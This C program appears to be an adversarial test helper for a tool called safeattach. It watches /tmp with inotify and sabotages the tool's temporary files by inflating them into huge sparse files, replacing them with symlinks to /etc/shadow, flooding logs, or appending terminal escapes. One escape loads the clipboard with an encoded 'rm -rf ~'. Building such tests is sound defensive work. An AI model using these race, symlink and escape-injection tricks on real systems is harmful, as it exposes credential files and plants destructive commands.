/*
 * The pod's own user attacking the way back: it watches its /tmp with
 * inotify and, the moment the profiler closes a file safeattach will read
 * back, makes it hostile before safeattach reads it:
 *   sparse  a recording (.safeattach-rec-*, the Flight Recorder's
 *           .safeattach-jfr-*) or output (.safeattach-out-*) becomes a
 *           900 MiB sparse file (it reads as zeros);
 *   link    the same files are replaced by a symbolic link to
 *           /etc/shadow (renamed over them);
 *   log     an agent log (.safeattach-log-*) gets 1 MB of lines appended
 *           as soon as it is created, before the agent's own line;
 *   escapes an agent log, as soon as it is created, and an output
 *           (.safeattach-out-*), once the profiler closed it, get
 *           ESCAPES appended: terminal sequences that write the
 *           clipboard (OSC 52), retitle the window (OSC 0), colour the
 *           text and clear the screen (an 8-bit C1 CSI), on a line an
 *           agent's error would start with.
 * Usage: wayback [sparse] [link] [log] [escapes]   (sparse and log when none is
 * given)
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static int named(int argc, char **argv, const char *mode) {
	for (int i = 1; i < argc; i++)
		if (strcmp(argv[i], mode) == 0) return 1;
	return 0;
}

static int want(int argc, char **argv, const char *mode) {
	return argc < 2 || named(argc, argv, mode);
}

/* The tests look for this text, raw in data and escaped in messages. */
#define ESCAPES "[ERROR] \033]52;c;cm0gLXJmIH4K\007\033]0;owned\007\033[31mred\033[0m\302\2332J\n"

static void append(const char *path, const char *data, size_t n) {
	int fd = open(path, O_WRONLY | O_APPEND);
	if (fd >= 0) {
		write(fd, data, n);
		close(fd);
	}
}

/* appended remembers the outputs escapes was appended to: its own close
 * of one is an IN_CLOSE_WRITE too, which must not append again. */
static char appended[16][NAME_MAX + 1];
static int next_appended;

static int seen(const char *name) {
	for (int i = 0; i < 16; i++)
		if (strcmp(appended[i], name) == 0) return 1;
	snprintf(appended[next_appended], sizeof appended[0], "%s", name);
	next_appended = (next_appended + 1) % 16;
	return 0;
}

int main(int argc, char **argv) {
	int sparse = want(argc, argv, "sparse"), logs = want(argc, argv, "log"), escapes = named(argc, argv, "escapes"), link = named(argc, argv, "link");
	static char line[1000000];
	for (size_t i = 0; i < sizeof line; i++) line[i] = (i % 100 == 99) ? '\n' : 'x';
	int in = inotify_init();
	if (in < 0 || inotify_add_watch(in, "/tmp", IN_CREATE | IN_CLOSE_WRITE | IN_MOVED_TO) < 0) {
		perror("inotify");
		return 1;
	}
	printf("WATCHING\n");
	fflush(stdout);
	char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)];
	for (;;) {
		ssize_t n = read(in, buf, sizeof buf);
		if (n <= 0) return 1;
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			p += sizeof *e + e->len;
			if (!e->len) continue;
			char path[PATH_MAX];
			snprintf(path, sizeof path, "/tmp/%s", e->name);
			int readBack = strncmp(e->name, ".safeattach-rec-", 16) == 0 || strncmp(e->name, ".safeattach-out-", 16) == 0 ||
				strncmp(e->name, ".safeattach-jfr-", 16) == 0;
			if (link && (e->mask & IN_CLOSE_WRITE) && readBack) {
				char tmp[PATH_MAX];
				snprintf(tmp, sizeof tmp, "/tmp/.attacker-%d", (int)getpid());
				unlink(tmp);
				if (symlink("/etc/shadow", tmp) == 0) rename(tmp, path);
			} else if (sparse && !(e->mask & IN_CREATE) && readBack) {
				truncate(path, 900L << 20);
			} else if (logs && (e->mask & IN_CREATE) && strncmp(e->name, ".safeattach-log-", 16) == 0) {
				append(path, line, sizeof line);
			}
			if (escapes && (e->mask & IN_CREATE) && strncmp(e->name, ".safeattach-log-", 16) == 0) {
				append(path, ESCAPES, sizeof ESCAPES - 1);
			} else if (escapes && (e->mask & IN_CLOSE_WRITE) && strncmp(e->name, ".safeattach-out-", 16) == 0 && !seen(e->name)) {
				append(path, ESCAPES, sizeof ESCAPES - 1);
			}
		}
	}
}
